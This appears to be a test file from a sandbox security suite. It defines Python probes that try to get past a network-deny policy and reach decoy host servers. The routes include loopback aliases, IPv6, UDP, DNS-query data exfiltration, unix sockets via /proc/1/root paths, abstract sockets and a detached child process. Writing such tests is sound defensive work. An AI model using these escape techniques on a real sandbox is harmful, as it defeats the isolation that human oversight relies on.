import { programAttack } from "../program-attack.js";

/** Sends a request with the nonce to each address, and searches the response for the decoy's secret. */
const ask = String.raw`
def ask(family, kind, address):
    with socket.socket(family, kind) as client:
        client.settimeout(3)
        client.connect(address)
        client.send(("GET / HTTP/1.1\r\nHost: decoy\r\nX-Nonce: %s\r\n\r\n" % P["nonce"]).encode())
        return leaks(client.recv(4096))
`;

const noIpv6 = "the decoys have no IPv6 address";

export const socketAttacks = [
  programAttack({
    id: "network.deny/tcp",
    title: "connect to a TCP server of the host",
    parameters: ({ decoys }) => ({ to: decoys.tcp }),
    program: `${ask}
attempt("connect", lambda: ask(socket.AF_INET, socket.SOCK_STREAM, (P["to"]["host"], P["to"]["port"])))`,
  }),
  programAttack({
    id: "network.deny/tcp-other-spellings",
    title: "reach the host's loopback as 0.0.0.0, as 127.1, by name, and as an IPv4-mapped address",
    parameters: ({ decoys }) => ({ to: decoys.tcp, port: decoys.onLoopback.port }),
    program: `${ask}
for host in ("0.0.0.0", "127.1", "localhost"):
    attempt(host, lambda: ask(socket.AF_INET, socket.SOCK_STREAM, (host, P["port"])))
for host, port in (("127.0.0.1", P["port"]), (P["to"]["host"], P["to"]["port"])):
    attempt("mapped", lambda: ask(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:" + host, port)))`,
  }),
  programAttack({
    id: "network.deny/tcp-ipv6",
    title: "connect to a TCP server of the host over IPv6",
    parameters: ({ decoys }) => decoys.tcp6 ?? noIpv6,
    program: `${ask}
attempt("connect", lambda: ask(socket.AF_INET6, socket.SOCK_STREAM, (P["host"], P["port"])))`,
  }),
  programAttack({
    id: "network.deny/udp",
    title: "send a datagram to a UDP server of the host",
    parameters: ({ decoys }) => decoys.udp,
    program: `${ask}
attempt("send", lambda: ask(socket.AF_INET, socket.SOCK_DGRAM, (P["host"], P["port"])))`,
  }),
  programAttack({
    id: "network.deny/udp-ipv6",
    title: "send a datagram to a UDP server of the host over IPv6",
    parameters: ({ decoys }) => decoys.udp6 ?? noIpv6,
    program: `${ask}
attempt("send", lambda: ask(socket.AF_INET6, socket.SOCK_DGRAM, (P["host"], P["port"])))`,
  }),
  programAttack({
    id: "network.deny/dns",
    title: "send data out in a DNS query",
    parameters: ({ decoys }) => decoys.udp,
    program: String.raw`
def query():
    name = b"".join(bytes([len(label)]) + label for label in (P["nonce"].encode(), b"ambit", b"test"))
    packet = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">HH", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.connect((P["host"], P["port"]))
        client.send(packet)
        return leaks(client.recv(4096))
attempt("query", query)`,
  }),
  programAttack({
    id: "network.deny/unix-path",
    stoppedBy: ["hidden host files"],
    title: "connect to a unix socket of the host by its path",
    parameters: ({ decoys }) => ({ path: decoys.unixPath }),
    program: `${ask}
os.chdir("/tmp")
for path in (P["path"], "/proc/self/root" + P["path"], "/proc/1/root" + P["path"]):
    attempt("connect", lambda: ask(socket.AF_UNIX, socket.SOCK_STREAM, path))`,
  }),
  programAttack({
    id: "network.deny/unix-abstract",
    title: "connect to an abstract unix socket of the host",
    parameters: ({ decoys }) => ({ name: decoys.abstractName }),
    program: `${ask}
# Its listener binds the whole of the address, as many do: the name is padded.
name = b"\\0" + P["name"].encode()
for address in (name, name.ljust(108, b"\\0")):
    attempt("connect", lambda: ask(socket.AF_UNIX, socket.SOCK_STREAM, address))`,
  }),
  programAttack({
    id: "network.deny/detached-child",
    title: "connect from a child that has left its parent, group and session",
    parameters: ({ decoys }) => ({ to: decoys.tcp }),
    program: `${ask}
def from_child():
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                os.write(writer, ask(socket.AF_INET, socket.SOCK_STREAM, (P["to"]["host"], P["to"]["port"])).encode())
            except OSError:
                pass
        os._exit(0)
    os.close(writer)
    return leaks(os.read(reader, 4096))
attempt("child", from_child)`,
  }),
] as const;
